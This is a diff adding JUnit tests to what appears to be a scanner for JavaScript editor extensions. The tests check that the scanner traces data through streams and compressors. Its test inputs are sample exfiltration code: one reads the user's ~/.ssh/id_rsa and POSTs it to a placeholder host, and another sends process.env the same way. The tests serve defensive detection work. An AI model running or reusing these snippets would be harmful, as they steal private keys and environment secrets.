@@ -3,6 +3,8 @@ package dev.vsxray.scanner.javascript.flow;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Data that goes through promises, pipes and objects that collect it. */
 class StreamsAndPromisesTest {
@@ -245,5 +247,37 @@ class StreamsAndPromisesTest {
                 """);
 
         assertThat(analysis.guards("account-identity", "network-send")).containsExactly("host-from-network");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "const packed = require('zlib').createGzip(); packed.pipe(request); packed.end(key);",
+                "const packed = require('zlib').createBrotliCompress(); packed.end(key); packed.pipe(request);",
+                "const through = new (require('stream').PassThrough)(); through.pipe(request); through.write(key);",
+                "const first = new (require('stream').PassThrough)(), second = require('zlib').createDeflateRaw();"
+                        + " second.pipe(request); first.pipe(second); first.end(key);",
+            })
+    void followsWhatIsWrittenIntoAStreamBeforeAndAfterItIsConnected(String sends) {
+        Analysis analysis = Analysis.ofActivate("""
+                const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
+                const request = https.request('https://pipe.example/in', { method: 'POST' });
+                """ + sends);
+
+        assertThat(analysis.flowNames()).containsExactly("ssh-credentials -> network-send");
+        assertThat(analysis.destinations("ssh-credentials", "network-send")).containsExactly("https://pipe.example/in");
+    }
+
+    @Test
+    void endsWhereStreamsAreConnectedInARing() {
+        Analysis analysis = Analysis.ofActivate("""
+                const { PassThrough } = require('stream');
+                const one = new PassThrough(), two = new PassThrough();
+                one.pipe(two); two.pipe(one);
+                one.write(JSON.stringify(process.env));
+                two.pipe(https.request('https://ring.example/in', { method: 'POST' }));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("environment -> network-send");
     }
 }
